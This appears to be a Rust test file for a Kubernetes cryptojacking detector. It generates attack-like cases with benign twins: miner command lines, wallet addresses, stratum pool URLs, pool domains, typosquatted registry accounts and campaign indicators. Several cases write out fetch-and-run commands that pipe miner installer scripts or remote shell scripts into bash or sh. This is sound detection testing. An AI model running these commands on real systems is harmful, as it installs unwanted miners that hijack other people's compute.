//! Evasion classes 4 and 5 of issue 9 and the policy's own indicators, as generated cases
//! with benign twins:
//! 4. indicators out of date: stratum scheme variants, current miners, installer scripts,
//!    pools, image keyword variants, campaign IOCs (each built-in IOC, used as the campaign
//!    used it, next to a neighbour that is not one);
//! 5. look-alike registry accounts and hosts (medium alone, one level up with another
//!    signal, at most High);
//! and `spec.detect.iocs` (images, domains, IP ranges) with the same context rules.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use crate::detect_common;

use cryptojack::api::{CryptojackPolicySpec, IocEntry, IocSpec};
use cryptojack::detect::{CompiledPolicy, PolicySet, Severity, Verdict, known_iocs};
use detect_common::*;

/// Class 4, Dero (the 2023 Kubernetes campaigns and the Docker API worm of 2025): the miners'
/// wallet and node options, Dero addresses (`dero1q...`, integrated `deroi1q...`, with a
/// worker suffix), the community pools, `TT-Miner` as written; twins: a Monero wallet's node
/// option, look-alike strings that are not addresses, and a lone address in env (medium).
#[test]
fn class4_dero_miners_addresses_and_pools() {
    const DERO: &str = "dero1qy3re85alh834xhwtr57l87d8rlqagr2amau2wvll8fy2vdan8e77qg39490z";
    const DEROI: &str =
        "deroi1qyzlxxgq2weyqlxg5u4tkng2lf5rktwanqhse2hwm577ps22zv2x2q9pvfz92xmks5khyddz99fsacg4k9";
    assert_eq!(DERO.len(), 66);
    let mut cases = Vec::new();
    let lines: Vec<Vec<String>> = vec![
        strings(&[
            "/pause",
            "--wallet-address",
            DERO,
            "--daemon-rpc-address=node.example.net:10300",
        ]),
        strings(&[
            "/usr/bin/cloud",
            &format!("--wallet-address={DEROI}"),
            "--mining-threads",
            "4",
        ]),
        strings(&[
            "./astrominer",
            "-w",
            DERO,
            "-r",
            "community-pools.mysrv.cloud:10300",
            "-p",
            "rpc",
        ]),
        strings(&[
            "/tmp/.x",
            "-w",
            &format!("{DEROI}.rig-7"),
            "-r",
            "203.0.113.9:10300",
            "-m",
            "8",
        ]),
        strings(&["/opt/svc", "-r", "dero-node-sg.mysrv.cloud:10300"]),
        strings(&[
            "/opt/svc",
            "--node",
            "dero.rabidmining.com:10300",
            "-t",
            "8",
        ]),
        strings(&["/opt/bench/TT-Miner", "-c", "/opt/bench/tt.conf"]),
        strings(&["/opt/x", "--daemon-rpc-address", "10.0.0.7:10102"]),
    ];
    for (k, argv) in lines.iter().enumerate() {
        let refs: Vec<&str> = argv.iter().map(String::as_str).collect();
        cases.push(Case::one(
            format!("dero#{k}: {refs:?}"),
            container("docker.io/library/ubuntu:22.04", &refs, &[]),
            Expect::Miner,
        ));
        let script = refs.iter().map(|w| sq(w)).collect::<Vec<_>>().join(" ");
        cases.push(Case::one(
            format!("dero#{k} in a loop"),
            container(
                "docker.io/library/ubuntu:22.04",
                &[
                    "bash",
                    "-c",
                    &format!("while :; do {script}; sleep 5; done"),
                ],
                &[],
            ),
            Expect::Miner,
        ));
    }
    // an address in a wallet variable with no other signal: medium, as a lone Monero one
    for addr in [DERO, DEROI] {
        cases.push(Case::one(
            format!("lone {addr} in env"),
            with_env(
                container("ghcr.io/acme/payments:1.4", &["/app/server"], &[]),
                &[("DONATIONS", addr)],
            ),
            Expect::Exactly(Severity::Medium),
        ));
    }
    // twins
    for argv in [
        &[
            "monero-wallet-rpc",
            "--daemon-address",
            "node.example.net:18081",
            "--rpc-bind-port",
            "18083",
        ][..],
        &[
            "/app/server",
            "--wallet-address",
            "0x529084ADCA88fBcB5bD2d5aF02a4B8F0F7dA2EE7",
        ],
        &["/app/server", "--id", "dero1qyNOTanADDRESS"],
        &["/app/server", "--id", &DERO[..60]],
        &["/app/server", "--id", &DERO.replace("dero1", "zero1")],
        &["/app/tt", "-c", "/etc/tt/miner.conf.example"],
        &["/usr/local/bin/ttm", "--render"],
    ] {
        cases.push(Case::one(
            format!("twin {argv:?}"),
            container("ghcr.io/acme/app:1.0", argv, &[]),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 18, 7);
}

#[test]
fn class4_stratum_scheme_variants() {
    let mut cases = Vec::new();
    let protocols = [
        "stratum",
        "stratum1",
        "stratum2",
        "stratums",
        "stratumss",
        "ethstratum",
        "ethstratum1",
        "ethstratum2",
        "ethproxy",
        "nicehash",
        "STRATUM",
        "EthStratum",
    ];
    let transports = [
        "", "+tcp", "+ssl", "+tls", "+tls12", "+tcps", "+udp", "+wss", "+tcp+tls",
    ];
    for p in protocols {
        for t in transports {
            let url = format!("{p}{t}://mine.example.net:3333");
            cases.push(
                Case::one(
                    format!("{url} as -o"),
                    container("ubuntu", &["/opt/app", "-o", &url], &[]),
                    Expect::Rule("builtin/pool/stratum-url".into()),
                )
                .also(Expect::Exactly(Severity::Critical)),
            );
            cases.push(Case::one(
                format!("{url} in env"),
                with_env(
                    container("ubuntu", &["/opt/app"], &[]),
                    &[("CFG", &format!("url={url}"))],
                ),
                Expect::Rule("builtin/pool/stratum-url".into()),
            ));
        }
    }
    // twins: other URL schemes to the same host
    for scheme in [
        "http",
        "https",
        "tcp",
        "redis",
        "postgres",
        "grpc",
        "ws",
        "nats",
        "amqp",
        "stratus",
        "mystratum",
    ] {
        let url = format!("{scheme}://mine.example.net:3333");
        cases.push(Case::one(
            format!("{url} twin"),
            container("ubuntu", &["/opt/app", "--endpoint", &url], &[]),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 200, 10);
}

#[test]
fn class4_current_miners_as_programs_images_and_paths() {
    let names = [
        "xmrig",
        "xmrig-proxy",
        "xmrigDaemon",
        "xmrigMiner",
        "xmrig-mo",
        "bzminer",
        "rigel",
        "onezerominer",
        "hellminer",
        "SRBMiner-MULTI",
        "lolMiner",
        "nanominer",
        "miniZ",
        "kawpowminer",
        "nsfminer",
        "z-enemy",
        "CryptoDredge",
        "tnn-miner",
        "astrominer",
        "dero-miner",
        "qli-Client",
        "rqiner",
        "gminer",
        "teamredminer",
        "wildrig-multi",
        "kswapd0",
        "pwnrig",
        "kdevtmpfsi",
    ];
    let mut cases = Vec::new();
    for n in names {
        let lower = n.to_ascii_lowercase();
        let rule = format!("builtin/miner-binary/{lower}");
        for prog in [
            format!("/opt/{n}"),
            format!("./{n}-1.2.3"),
            format!("{n}.exe"),
            n.to_string(),
        ] {
            cases.push(
                Case::one(
                    prog.clone(),
                    container("ubuntu", &[&prog], &["--help"]),
                    Expect::Rule(rule.clone()),
                )
                .also(Expect::Exactly(Severity::Critical)),
            );
        }
        cases.push(Case::one(
            format!("{n} downloaded"),
            container("alpine", &["sh", "-c", &format!("wget -q https://github.com/x/y/releases/download/v1/{n}-linux.tar.gz -O /tmp/a.tgz")], &[]),
            Expect::Rule(rule.clone()),
        ));
        cases.push(Case::one(
            format!("{n} image"),
            container(&format!("ghcr.io/someone/{lower}:latest"), &[], &[]),
            Expect::Rule(format!("builtin/miner-image/{lower}")),
        ));
        // twins: the name inside a longer word, as a non-path argument
        cases.push(Case::one(
            format!("{n} twin"),
            container(
                "ubuntu",
                &[
                    "/usr/bin/grep",
                    "-c",
                    &format!("{lower}s"),
                    &format!("report-{lower}ish.txt"),
                ],
                &[],
            ),
            Expect::Benign,
        ));
    }
    // XMRigCC's daemon and its --cc-url, NiceHash excavator in context
    cases.push(Case::one(
        "cc-url",
        container(
            "ubuntu",
            &[
                "/opt/agent",
                "--cc-url=cc.example.net:3344",
                "--cc-access-token=x",
            ],
            &[],
        ),
        Expect::Miner,
    ));
    cases.push(Case::one(
        "excavator with an algorithm",
        container(
            "ubuntu",
            &[
                "/opt/excavator",
                "-a",
                "daggerhashimoto",
                "-s",
                "mine.example.net:3353",
            ],
            &[],
        ),
        Expect::Rule("builtin/miner-binary/excavator".into()),
    ));
    cases.push(Case::one(
        "excavator nicehash image",
        container(
            "nicehash/excavator:1.8",
            &["excavator"],
            &["-c", "cfg.json"],
        ),
        Expect::Rule("builtin/miner-binary/excavator".into()),
    ));
    cases.push(Case::one(
        "excavator twin",
        container(
            "registry.example.com/ci/excavator:2",
            &["excavator"],
            &["--site", "b12", "--dig-depth", "3"],
        ),
        Expect::Benign,
    ));
    let counts = check(&cases);
    assert_class_size(&counts, 190, 28);
}

#[test]
fn class4_installer_scripts() {
    let mut cases = Vec::new();
    let urls = [
        "https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh",
        "http://download.c3pool.org/xmrig_setup/raw/master/setup_c3pool_miner.sh",
        "https://gitee.com/mirror/xmrig_setup/raw/master/setup_moneroocean_miner.sh?token=1",
        "https://example.org/s/setup_c3pool_miner.sh",
    ];
    for u in urls {
        for shape in [
            format!("curl -s -L {u} | bash -s {XMR}"),
            format!("wget -qO- {u} | sh -s -- {XMR}"),
            format!("curl -sLo /tmp/s.sh {u} && bash /tmp/s.sh {XMR}"),
            format!("bash <(curl -s {u}) {XMR}"),
        ] {
            cases.push(
                Case::one(
                    shape.clone(),
                    container("ubuntu", &["bash", "-c", &shape], &[]),
                    Expect::Miner,
                )
                .also(Expect::Exactly(Severity::Critical)),
            );
        }
    }
    for twin in [
        "curl -s -L https://deb.nodesource.com/setup_20.x | bash -",
        "curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh",
        "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
        "curl -sL https://example.org/setup_miner_dashboard.sh | bash",
    ] {
        cases.push(Case::one(
            twin,
            container("ubuntu", &["bash", "-c", twin], &[]),
            Expect::Benign,
        ));
    }
    check(&cases);
}

#[test]
fn class4_pool_domains_and_their_context() {
    let pools = [
        "pool.supportxmr.com",
        "gulf.moneroocean.stream",
        "xmr.2miners.com",
        "rx.unmineable.com",
        "pool.hashvault.pro",
        "auto.c3pool.org",
        "xmr-eu1.nanopool.org",
        "de.monero.herominers.com",
        "kas.herominers.com",
        "xmr.kryptex.network",
        "dero.herominers.com",
        "pool.binance.com",
        "stratum.braiins.com",
        "xmr.metal3d.org",
        "mine.qubic.li",
        "aleo.apool.io",
        "zephyr.herominers.com",
        "xmrpool.eu",
        "skypool.org",
    ];
    let mut cases = Vec::new();
    for p in pools {
        cases.push(Case::one(
            format!("{p}:3333"),
            container("ubuntu", &["/app", "--target", &format!("{p}:3333")], &[]),
            Expect::Exactly(Severity::Critical),
        ));
        cases.push(Case::one(
            format!("https://{p}/"),
            container("ubuntu", &["/app", &format!("https://{p}/api")], &[]),
            Expect::Exactly(Severity::Critical),
        ));
        cases.push(Case::one(
            format!("{p} bare"),
            container("ubuntu", &["/app", "--note", p], &[]),
            Expect::Exactly(Severity::High),
        ));
        // twins: names that only contain the pool's name
        let reg = p
            .rsplit('.')
            .take(2)
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect::<Vec<_>>()
            .join(".");
        let base = reg.split('.').next().unwrap();
        for twin in [
            format!("not{reg}"),
            format!("{base}.example:3333"),
            format!("{reg}-mirror.example:443"),
        ] {
            cases.push(Case::one(
                format!("{twin} twin"),
                container("ubuntu", &["/app", "--target", &twin], &[]),
                Expect::Benign,
            ));
        }
    }
    let counts = check(&cases);
    assert_class_size(&counts, 19, 50);
}

#[test]
fn class4_image_keyword_variants() {
    let mut cases = Vec::new();
    for img in [
        "someone/monerominer:1",
        "someone/moneroMiner",
        "someone/monero_miner:latest",
        "someone/Monero-Miner",
        "x/xmr-miner",
        "x/xmrminer",
        "x/crypto-miner",
        "x/cryptominer:v2",
        "x/crypto_mining",
        "x/coinminer",
        "x/coin-mining",
        "x/xmr-stak-cpu",
        "x/universal-cryptonight",
        "x/monero-cpu-minergate",
        "x/gpu-miner",
        "x/kaspa.miner",
        "x/rvn-miner",
        "x/xmrstak",
    ] {
        cases.push(Case::one(img, container(img, &[], &[]), Expect::Miner));
    }
    for twin in [
        "falcosecurity/cryptominer-detector:1",
        "x/cryptominer-exporter",
        "x/mining-dashboard",
        "rapidminer/rapidminer-server:10",
        "x/minecraft-server",
        "x/mineos",
        "x/coin-price-exporter",
        "x/miner-blocklist",
        "x/data-mining-notebook",
        "x/coinbase-sdk",
    ] {
        cases.push(Case::one(
            format!("{twin} twin"),
            container(twin, &[], &[]),
            Expect::Benign,
        ));
    }
    check(&cases);
}

#[test]
fn class4_every_campaign_ioc_with_its_neighbour() {
    let iocs = known_iocs();
    let mut cases = Vec::new();
    for i in &iocs {
        let rule = format!("builtin/known-ioc/{}", i.value);
        match i.kind.as_str() {
            "image" => {
                let img = i.value.replace("/*", "/node-exporter");
                cases.push(
                    Case::one(
                        img.clone(),
                        container(&format!("{img}:latest"), &[], &[]),
                        Expect::Rule(rule.clone()),
                    )
                    .also(Expect::Exactly(Severity::Critical)),
                );
                cases.push(Case::one(
                    format!("docker.io/{img}"),
                    container(&format!("docker.io/{img}"), &[], &[]),
                    Expect::Rule(rule.clone()),
                ));
                // neighbour: the same path on another registry is not the Docker Hub image
                cases.push(Case::one(
                    format!("{img} elsewhere"),
                    container(&format!("registry.example.com/{img}x:1"), &[], &[]),
                    Expect::NoRule(rule),
                ));
            }
            "domain" => {
                let host = format!("x.{}", i.value);
                cases.push(
                    Case::one(
                        format!("{host} download"),
                        container(
                            "alpine",
                            &["sh", "-c", &format!("curl -s http://{host}/s.sh | sh")],
                            &[],
                        ),
                        Expect::Rule(rule.clone()),
                    )
                    .also(Expect::Exactly(Severity::Critical)),
                );
                cases.push(Case::one(
                    format!("{host} bare"),
                    container("alpine", &["/app", &host], &[]),
                    Expect::Exactly(Severity::High),
                ));
                cases.push(Case::one(
                    format!("{} neighbour", i.value),
                    container(
                        "alpine",
                        &[
                            "sh",
                            "-c",
                            &format!("curl -s http://x.{}s/s.sh -o /tmp/s", i.value),
                        ],
                        &[],
                    ),
                    Expect::Benign,
                ));
                // blocklisted: not a finding
                cases.push(Case::one(
                    format!("{} sinkholed", i.value),
                    container(
                        "alpine",
                        &["sh", "-c", &format!("echo '0.0.0.0 {host}' >> /etc/hosts")],
                        &[],
                    ),
                    Expect::Benign,
                ));
            }
            "ip" => {
                let ip = i.value.trim_end_matches("/32");
                cases.push(
                    Case::one(
                        format!("{ip} download"),
                        container(
                            "alpine",
                            &["sh", "-c", &format!("wget -q -O - http://{ip}/unk.sh | sh")],
                            &[],
                        ),
                        Expect::Rule(rule.clone()),
                    )
                    .also(Expect::Exactly(Severity::Critical)),
                );
                cases.push(Case::one(
                    format!("{ip}:8080"),
                    container("alpine", &["/app", "-o", &format!("{ip}:8080")], &[]),
                    Expect::Rule(rule.clone()),
                ));
                let mut octets: Vec<u32> = ip.split('.').map(|o| o.parse().unwrap()).collect();
                octets[3] = (octets[3] + 1) % 256;
                let next = octets
                    .iter()
                    .map(u32::to_string)
                    .collect::<Vec<_>>()
                    .join(".");
                cases.push(Case::one(
                    format!("{next} neighbour"),
                    container(
                        "alpine",
                        &[
                            "sh",
                            "-c",
                            &format!("wget -q -O - http://{next}/unk.sh > /tmp/x"),
                        ],
                        &[],
                    ),
                    Expect::Benign,
                ));
            }
            other => panic!("unknown kind {other}"),
        }
    }
    let counts = check(&cases);
    assert_class_size(&counts, 50, 30);
}

#[test]
fn class5_lookalike_registry_accounts() {
    fn edits(t: &str) -> Vec<String> {
        let b: Vec<char> = t.chars().collect();
        let mut out = Vec::new();
        // substitution, deletion, insertion, transposition at a few positions
        for k in [1, b.len() / 2, b.len() - 1] {
            let mut s = b.clone();
            s[k] = if s[k] == 'x' { 'y' } else { 'x' };
            out.push(s.iter().collect());
            let mut d = b.clone();
            d.remove(k);
            out.push(d.iter().collect());
            let mut i = b.clone();
            i.insert(k, b[k]);
            out.push(i.iter().collect());
            if k + 1 < b.len() && b[k] != b[k + 1] {
                let mut t = b.clone();
                t.swap(k, k + 1);
                out.push(t.iter().collect());
            }
        }
        out.sort();
        out.dedup();
        out.retain(|s| s != t);
        out
    }
    let targets = [
        "kubernetes",
        "bitnami",
        "nvidia",
        "library",
        "grafana",
        "prometheus",
        "jetstack",
        "rancher",
        "hashicorp",
        "falcosecurity",
    ];
    let mut cases = Vec::new();
    for t in targets {
        for acct in edits(t) {
            let img = format!("{acct}/agent:1.0");
            let rule = format!("builtin/lookalike-registry/{t}");
            // alone: medium
            cases.push(
                Case::one(
                    img.clone(),
                    container(&img, &[], &[]),
                    Expect::Rule(rule.clone()),
                )
                .also(Expect::Exactly(Severity::Medium)),
            );
            // with a low signal: one level up to high
            cases.push(Case::one(
                format!("{img} + port"),
                with_ports(container(&img, &[], &[]), &[3333]),
                Expect::Exactly(Severity::High),
            ));
            // with a high signal: stays high (at most High)
            cases.push(Case::one(
                format!("{img} + flags"),
                container(&img, &["/agent", "--donate-level", "1"], &[]),
                Expect::Exactly(Severity::High),
            ));
        }
        // twins: the real account, and a distant one
        cases.push(Case::one(
            format!("{t} real"),
            container(&format!("{t}/agent:1.0"), &[], &[]),
            Expect::Benign,
        ));
        cases.push(Case::one(
            format!("{t} distant"),
            container(&format!("{t}-community-charts/agent:1.0"), &[], &[]),
            Expect::Benign,
        ));
    }
    // registries one edit from a well-known one
    for reg in [
        "registry-k8s.io",
        "registry.k8s.co",
        "k8s.gcr.iu",
        "ghrc.io",
        "nvcr.co",
        "quay.oi",
    ] {
        cases.push(Case::one(
            reg,
            container(&format!("{reg}/pause:3.9"), &[], &[]),
            Expect::Exactly(Severity::Medium),
        ));
    }
    for reg in [
        "registry.k8s.io",
        "gcr.io",
        "ghcr.io",
        "quay.io",
        "nvcr.io",
        "registry.example.com",
        "eu.gcr.io",
    ] {
        cases.push(Case::one(
            format!("{reg} real"),
            container(&format!("{reg}/pause:3.9"), &[], &[]),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 100, 20);
}

/// Class 5, what the eye confuses: `rn` for `m`, `vv` for `w`, `cl` for `d`, digits for
/// letters (`0`/`o`, `1`/`l`, `5`/`s`), each alone and with one more edit; twins are real
/// accounts made of the same letter pairs.
#[test]
fn class5_lookalike_accounts_that_read_the_same() {
    const SWAPS: [(char, &str); 6] = [
        ('m', "rn"),
        ('w', "vv"),
        ('d', "cl"),
        ('o', "0"),
        ('l', "1"),
        ('s', "5"),
    ];
    let targets = [
        "bitnami",
        "kubernetes",
        "nvidia",
        "grafana",
        "prometheus",
        "library",
        "hashicorp",
        "coredns",
        "mongodb",
        "microsoft",
        "docker",
        "elastic",
        "gitlab",
        "datadog",
        "minio",
    ];
    let mut cases = Vec::new();
    for t in targets {
        let chars: Vec<char> = t.chars().collect();
        for (k, c) in chars.iter().enumerate() {
            let Some((_, with)) = SWAPS.iter().find(|(from, _)| from == c) else {
                continue;
            };
            let head: String = chars[..k].iter().collect();
            let tail: String = chars[k + 1..].iter().collect();
            for acct in [
                format!("{head}{with}{tail}"),
                // and one more edit: a trailing letter, or the last letter dropped
                format!("{head}{with}{tail}x"),
                format!("{head}{with}{}", &tail[..tail.len().saturating_sub(1)]),
            ] {
                if acct.len() < 5 {
                    continue;
                }
                let img = format!("docker.io/{acct}/agent:1.0");
                cases.push(
                    Case::one(
                        img.clone(),
                        container(&img, &[], &[]),
                        Expect::Rule(format!("builtin/lookalike-registry/{t}")),
                    )
                    .also(Expect::Exactly(Severity::Medium)),
                );
            }
        }
    }
    for real in [
        "learnk8s",
        "clouddrove",
        "modernisation",
        "turnkeylinux",
        "vvakame",
        "cloudnative-pg",
        "clockworklabs",
        "sonarsource",
        "timberio",
        "jfrog",
        "openpolicyagent",
        "0xpolygon",
        "mysql",
        "redis",
        "bitnamilabs",
        "kubernetesui",
    ] {
        cases.push(Case::one(
            format!("{real} real"),
            container(&format!("docker.io/{real}/agent:1.0"), &[], &[]),
            Expect::Benign,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 80, 15);
}

#[test]
fn class5_the_verdict_exposes_the_raise() {
    let set = PolicySet::new(vec![CompiledPolicy::builtin_default()]);
    let view = pod(vec![with_ports(
        container("nvidla/cuda:12", &[], &[]),
        &[3333],
    )]);
    let v: Verdict = set.evaluate(&view, &cryptojack::detect::EvalContext::offline(&view));
    assert!(v.has_lookalike());
    assert_eq!(v.severity(), Some(Severity::High));
    assert_eq!(v.incident_severity(), Some(Severity::High));
    // a verdict merged from elsewhere: the helper applies the rule itself
    let mut lone = v.clone();
    for f in &mut lone.findings {
        if f.rule.starts_with("builtin/lookalike-registry/") {
            f.severity = Severity::Medium;
        }
    }
    assert_eq!(lone.severity(), Some(Severity::Medium));
    assert_eq!(lone.incident_severity(), Some(Severity::High));
    let critical = pod(vec![container("nvidla/cuda:12", &["/opt/xmrig"], &[])]);
    let v = set.evaluate(
        &critical,
        &cryptojack::detect::EvalContext::offline(&critical),
    );
    assert_eq!(v.incident_severity(), Some(Severity::Critical));
}

fn ioc_policy(iocs: IocSpec) -> CompiledPolicy {
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.builtin = false;
    spec.detect.gpu.enabled = false;
    spec.detect.node.gpu_instance_types.clear();
    spec.detect.node.flag_spot = false;
    spec.detect.iocs = iocs;
    CompiledPolicy::compile("team-iocs", &spec).unwrap()
}

fn entry(value: &str, severity: Option<Severity>) -> IocEntry {
    IocEntry {
        value: value.into(),
        source: Some("Example Report 2025-11".into()),
        severity: severity.unwrap_or(Severity::Critical),
    }
}

#[test]
fn policy_iocs_images_domains_and_ranges() {
    let policy = ioc_policy(IocSpec {
        images: vec![
            entry("docker.io/evilcorp/*", None),
            entry("ghcr.io/bad/miner:*", Some(Severity::High)),
            entry("quay.io/x/y", None),
        ],
        domains: vec![
            entry("evil-mining.example", None),
            entry("*.drop.example.org", Some(Severity::High)),
        ],
        ip_ranges: vec![
            entry("203.0.113.0/24", None),
            entry("2001:db8:bad::/48", None),
            entry("198.51.100.7", Some(Severity::Medium)),
        ],
    });
    assert_eq!(policy.rule_count(), 8);
    let id = |list: &str, i: usize| format!("policy/team-iocs/iocs.{list}[{i}]");
    let mut cases = Vec::new();
    for img in [
        "evilcorp/tool",
        "evilcorp/tool:1.2",
        "docker.io/evilcorp/tool@sha256:abcd",
        "EvilCorp/Tool",
    ] {
        cases.push(
            Case::one(img, container(img, &[], &[]), Expect::Rule(id("images", 0)))
                .also(Expect::Exactly(Severity::Critical)),
        );
    }
    cases.push(Case::one(
        "ghcr tag",
        container("ghcr.io/bad/miner:7", &[], &[]),
        Expect::Exactly(Severity::High),
    ));
    cases.push(Case::one(
        "quay exact without tag",
        container("quay.io/x/y:3", &[], &[]),
        Expect::Rule(id("images", 2)),
    ));
    for twin in [
        "evilcorpx/tool",
        "ghcr.io/bad/minerx",
        "ghcr.io/evilcorp/tool",
        "quay.io/x/yz",
    ] {
        cases.push(Case::one(
            format!("{twin} twin"),
            container(twin, &[], &[]),
            Expect::Benign,
        ));
    }
    // domains: as URL host or host:port (entry severity), bare (one level lower), subdomains
    for (w, sev) in [
        ("https://evil-mining.example/x.sh", Severity::Critical),
        ("a.b.evil-mining.example:3333", Severity::Critical),
        ("evil-mining.example/path", Severity::Critical),
        ("evil-mining.example", Severity::High),
        ("http://x.drop.example.org/a", Severity::High),
        ("x.drop.example.org", Severity::Medium),
    ] {
        cases.push(Case::one(
            w,
            container("alpine", &["sh", "-c", &format!("curl -s {w} | sh")], &[]),
            Expect::Exactly(sev),
        ));
        cases.push(Case::one(
            format!("{w} env"),
            with_env(container("alpine", &["/app"], &[]), &[("TARGET", w)]),
            Expect::Exactly(sev),
        ));
    }
    for twin in [
        "https://notevil-mining.example/x",
        "evil-mining.example.com:3333",
        "drop.example.com:443",
        "http://evil-mining.examples/",
    ] {
        cases.push(Case::one(
            format!("{twin} twin"),
            container("alpine", &["/app", twin], &[]),
            Expect::Benign,
        ));
    }
    // blocklists and sinkholes naming an indicator are not findings
    for s in [
        "echo '0.0.0.0 evil-mining.example' >> /etc/hosts",
        "dnsmasq --address=/evil-mining.example/0.0.0.0 -k",
        "iptables -A OUTPUT -d 203.0.113.9 -j DROP",
    ] {
        cases.push(Case::one(
            format!("{s} sinkhole"),
            container("alpine", &["sh", "-c", s], &[]),
            Expect::Benign,
        ));
    }
    // IP ranges
    for (w, sev) in [
        ("http://203.0.113.77/x.sh", Severity::Critical),
        ("203.0.113.5:3333", Severity::Critical),
        ("203.0.113.5", Severity::High),
        ("stratum+tcp://[2001:db8:bad::9]:3333", Severity::Critical),
        ("http://198.51.100.7/a", Severity::Medium),
    ] {
        cases.push(Case::one(
            w,
            container("alpine", &["/app", w], &[]),
            Expect::Exactly(sev),
        ));
    }
    for twin in [
        "http://203.0.114.1/x",
        "198.51.100.8:3333",
        "v203.0.113.5",
        "10.203.0.113",
        "2001:db8:bad1::1",
    ] {
        cases.push(Case::one(
            format!("{twin} twin"),
            container("alpine", &["/app", twin], &[]),
            Expect::Benign,
        ));
    }
    check_with(&policy, &cases);
    // the source is in the evidence
    let f = policy.evaluate_offline(&pod(vec![container("evilcorp/tool", &[], &[])]));
    assert!(
        f[0].evidence.contains("Example Report 2025-11"),
        "{}",
        f[0].evidence
    );
}

#[test]
fn policy_iocs_errors_name_the_field() {
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.iocs = IocSpec {
        images: vec![entry("ok/*", None), entry("bad[", None)],
        domains: vec![
            entry("no_dots", None),
            entry("fine.example", None),
            entry("spa ce.example", None),
        ],
        ip_ranges: vec![
            entry("10.0.0.0/8", None),
            entry("10.0.0.0/40", None),
            entry("not-an-ip", None),
        ],
    };
    let err = CompiledPolicy::compile("p", &spec).unwrap_err();
    let fields: Vec<&str> = err.errors.iter().map(|e| e.field.as_str()).collect();
    assert_eq!(
        fields,
        [
            "spec.detect.iocs.images[1].value",
            "spec.detect.iocs.domains[0].value",
            "spec.detect.iocs.domains[2].value",
            "spec.detect.iocs.ipRanges[1].value",
            "spec.detect.iocs.ipRanges[2].value",
        ]
    );
}

#[test]
fn the_worked_example_policy_compiles_and_catches_its_report() {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/examples/policies/iocs-from-a-report.yaml"
    ))
    .unwrap();
    let policy: cryptojack::api::CryptojackPolicy = serde_saphyr::from_str(&text).unwrap();
    let compiled = CompiledPolicy::compile("iocs-from-a-report", &policy.spec).unwrap();
    let view = view_from_yaml(include_str!(
        "../examples/workloads/report-ioc-cronjob.yaml"
    ));
    let f = compiled.evaluate_offline(&view);
    assert!(f.iter().any(|f| f.rule.contains("iocs.domains")), "{f:#?}");
    assert!(f.iter().any(|f| f.rule.contains("iocs.ipRanges")), "{f:#?}");
}

/// A policy remembers what each image said (pods share images); the second look must say
/// the same as the first, whatever the container does with the image.
#[test]
fn image_findings_are_the_same_the_second_time() {
    let images = [
        "metal3d/xmrig:latest",
        "kuberntes/pause:3.9",
        "bitnarni/redis:7",
        "docker.io/library/ubuntu:22.04",
        "nicehash/excavator:1.8",
        "ghcr.io/example/cryptominer-tools:1",
        "nginx:1.25",
        "registry.k8s.io/pause:3.9",
        "trex/tile-server:2",
        "simple-monerod:latest",
    ];
    let argvs: [&[&str]; 3] = [
        &[],
        &["xmrig", "-o", "pool.supportxmr.com:3333"],
        &["sh", "-c", "echo ok"],
    ];
    let policy = CompiledPolicy::builtin_default();
    let mut checked = 0;
    for image in images {
        for argv in argvs {
            let p = pod(vec![container(image, argv, &[])]);
            let fresh = CompiledPolicy::builtin_default().evaluate_offline(&p);
            let first = policy.evaluate_offline(&p);
            let second = policy.evaluate_offline(&p);
            assert_eq!(first, fresh, "{image} {argv:?}");
            assert_eq!(second, fresh, "{image} {argv:?}");
            checked += 1;
        }
    }
    assert_eq!(checked, images.len() * argvs.len());
}
